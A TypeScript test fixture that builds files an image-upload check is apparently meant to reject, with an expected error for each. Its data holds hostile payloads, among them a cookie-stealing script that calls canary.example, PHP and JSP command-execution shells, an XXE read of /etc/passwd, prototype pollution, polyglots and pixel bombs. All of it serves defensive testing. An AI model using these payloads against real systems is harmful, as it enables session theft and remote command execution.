import { deflateSync } from 'node:zlib';
import { drawing, goodJpeg, goodPng } from './pictures.ts';
import { chunk, PNG_END as END, greyPng, header, PNG_SIGNATURE as SIGNATURE } from './png.ts';

const latin = (text: string) => Buffer.from(text, 'latin1');
const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex');

const SCRIPT = '<script>fetch("https://canary.example/"+document.cookie)</script>';
/** A copy with some bytes changed. */
function changed(file: Buffer, at: number, ...bytes: number[]): Buffer {
  const copy = Buffer.from(file);
  copy.set(bytes, at);
  return copy;
}

/** A segment of a JPG. */
function segment(marker: number, ...data: number[]): Buffer {
  const length = data.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 0xff, ...data]);
}

/** A progressive JPG of 64 by 64 grey pixels with this many scans, each for one bit of one coefficient. */
function jpegOfScans(scans: number): Buffer {
  const tables = [
    segment(0xdb, 0, ...Array<number>(64).fill(1)),
    segment(0xc2, 8, 0, 64, 0, 64, 1, 1, 0x11, 0),
    segment(0xc4, 0x00, 1, ...Array<number>(15).fill(0), 0),
    segment(0xc4, 0x10, 1, 1, ...Array<number>(14).fill(0), 0xe0, 0x00),
  ];
  const scan = (from: number, to: number, bits: number, data: Buffer) =>
    Buffer.concat([segment(0xda, 1, 1, 0, from, to, bits), data]);
  const passes = Array.from({ length: scans - 1 }, (_, pass) => {
    const [coefficient, bit] = [1 + Math.floor(pass / 14), 13 - (pass % 14)];
    const bits = bit === 13 ? bit : ((bit + 1) << 4) | bit;
    // Each of the 64 blocks ends at once.
    return scan(coefficient, coefficient, bits, Buffer.alloc(16, 0xaa));
  });
  return Buffer.concat([hex('ff d8'), ...tables, scan(0, 0, 0, Buffer.alloc(8)), ...passes, hex('ff d9')]);
}

const FRAME = goodJpeg.indexOf(Buffer.from([0xff, 0xc0]));
/** A JPG that says to be of 12,000 by 12,000 pixels. */
const hugeJpeg = changed(goodJpeg, FRAME + 5, 0x2e, 0xe0, 0x2e, 0xe0);

/** Files that begin as something else, whatever their name and type say. */
const otherTypes: Record<string, Buffer> = {
  'a page': latin(`<!doctype html>${SCRIPT}`),
  'a page behind blanks': latin(`\n\n\t <html>${SCRIPT}`),
  'a page in UTF-16': Buffer.from(`\ufeff<html>${SCRIPT}`, 'utf16le'),
  'a page in UTF-7': latin('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  'an XHTML page': latin(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`),
  'an SVG drawing': latin('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'an SVG drawing behind a byte order mark': Buffer.from('\ufeff<svg xmlns="http://www.w3.org/2000/svg"/>'),
  'a packed SVG drawing': hex('1f 8b 08 00 00 00 00 00 00 03 b3 29 2e 4b 07 00'),
  'a stylesheet': latin('@import "https://canary.example/";body{}'),
  'a script': latin('alert(document.domain)'),
  'an MHTML page': latin(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`),
  'a PHP program': latin('<?php system($_GET["c"]); ?>'),
  'a JSP program': latin('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
  'a shell program': latin('#!/bin/sh\nid\n'),
  'XML with an entity': latin('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  JSON: latin('{"__proto__":{"admin":true}}'),
  'plain text': latin('I am a picture'),
  nothing: Buffer.alloc(0),
  'a single byte': hex('ff'),
  'half a signature': SIGNATURE.subarray(0, 4),
  zeros: Buffer.alloc(4096),
  'a GIF': latin(
    'GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
  ),
  'a GIF that is a script too': latin('GIF89a=1;alert(1)//'),
  'a BMP that is a script too': latin('BM=1;alert(1)//'),
  'a WebP': await drawing.clone().webp().toBuffer(),
  'an AVIF': await drawing.clone().avif({ effort: 0 }).toBuffer(),
  'a TIFF': await drawing.clone().tiff().toBuffer(),
  'a big-endian TIFF': hex('4d 4d 00 2a 00 00 00 08 00 00'),
  'an icon': hex('00 00 01 00 01 00 01 01 00 00 01 00 18 00'),
  'a JPEG 2000': hex('00 00 00 0c 6a 50 20 20 0d 0a 87 0a'),
  'a JPEG XL': hex('ff 0a fa 1f 01 91 08 06 01 00 4c 00'),
  'a Photoshop file': latin('8BPS\x00\x01'),
  'a PostScript file': latin('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file'),
  'a film': latin('\x00\x00\x00\x18ftypmp42'),
  'a Flash film': latin('CWS\x0f'),
  'a ZIP archive': latin('PK\x03\x04\x14\x00'),
  'a 7z archive': hex('37 7a bc af 27 1c'),
  'a program for Windows': latin('MZ\x90\x00'),
  'a program for Linux': latin('\x7fELF\x02\x01\x01'),
  'a Java class': hex('ca fe ba be 00 00 00 34'),
  'a WebAssembly module': hex('00 61 73 6d 01 00 00 00'),
  'a picture behind a page': Buffer.concat([latin(`<!--`), goodPng, latin(`-->${SCRIPT}`)]),
  'a picture behind a blank': Buffer.concat([latin(' '), goodPng]),
  'a picture in base64': latin(goodPng.toString('base64')),
  'a picture as a data address': latin(`data:image/png;base64,${goodPng.toString('base64')}`),
  'a picture whose line ends were changed': latin(goodPng.toString('latin1').replaceAll('\r\n', '\n')),
};

/** Files that begin as they should, and go wrong after. */
const broken: Record<string, Buffer> = {
  'a page behind a PNG signature': Buffer.concat([SIGNATURE, latin(SCRIPT)]),
  'a page behind a JPG signature': Buffer.concat([hex('ff d8 ff'), latin(SCRIPT)]),
  'a page in a comment of an empty JPG': Buffer.concat([hex('ff d8 ff fe 00 60'), latin(SCRIPT), hex('ff d9')]),
  'a PNG of its signature alone': SIGNATURE,
  'a JPG of its begin and end alone': hex('ff d8 ff d9'),
  'half a PNG': goodPng.subarray(0, goodPng.length / 2),
  'half a JPG': goodJpeg.subarray(0, goodJpeg.length / 2),
  'a JPG without its tables': changed(goodJpeg, 20, ...Buffer.alloc(200)),
  'a PNG without a size': Buffer.concat([SIGNATURE, chunk('IDAT', deflateSync(Buffer.alloc(99))), END]),
  'a PNG of no width': Buffer.concat([SIGNATURE, header(0, 40, 8, 2), END]),
  'a PNG whose checksums are wrong': changed(goodPng, 29, 0, 0, 0, 0),
  'a JPG of eight hundred passes': jpegOfScans(800),
  'a PNG whose pixels are no pixels': Buffer.concat([goodPng.subarray(0, 33), chunk('IDAT', latin(SCRIPT)), END]),
};

/** Small files of very many pixels. */
const tooManyPixels: Record<string, Buffer> = {
  'a PNG of 48 million pixels': greyPng(8000, 6000),
  'a PNG of one endless line': Buffer.concat([
    SIGNATURE,
    header(41_000_000, 1, 8, 2),
    chunk('IDAT', deflateSync('')),
    END,
  ]),
  'a JPG of 144 million pixels': hugeJpeg,
  'an interlaced PNG that takes 288 MB to read': Buffer.concat([
    SIGNATURE,
    header(6000, 6000, 16, 6, 0, 0, 1),
    chunk('IDAT', deflateSync('')),
    END,
  ]),
};

/** Few pixels for their length. */
const tooLong: Record<string, Buffer> = {
  'a PNG one pixel wide and forty million high': greyPng(1, 40_000_000),
  'a PNG of 20,001 columns': greyPng(20_001, 1),
};

const tooLarge: Record<string, Buffer> = {
  'a PNG with a tail of 5 MB': Buffer.concat([goodPng, Buffer.alloc(5 * 1024 * 1024)]),
  'zeros of 6 MB': Buffer.alloc(6 * 1024 * 1024),
};

const named = (files: Record<string, Buffer>, sentence: RegExp) =>
  Object.entries(files).map(([what, content]) => ({ what, content, sentence }));

/** A progressive JPG of as many passes as encoders make. */
export const progressiveJpeg = jpegOfScans(15);

/** Files that are refused as pictures, each with its error message. */
export const badFiles = [
  ...named(otherTypes, /^Please choose/),
  ...named(broken, /is damaged/),
  ...named(tooManyPixels, /(30|40|120) million pixels/),
  ...named(tooLong, /at most 20000 pixels/),
  ...named(tooLarge, /at most 5 MB/),
];
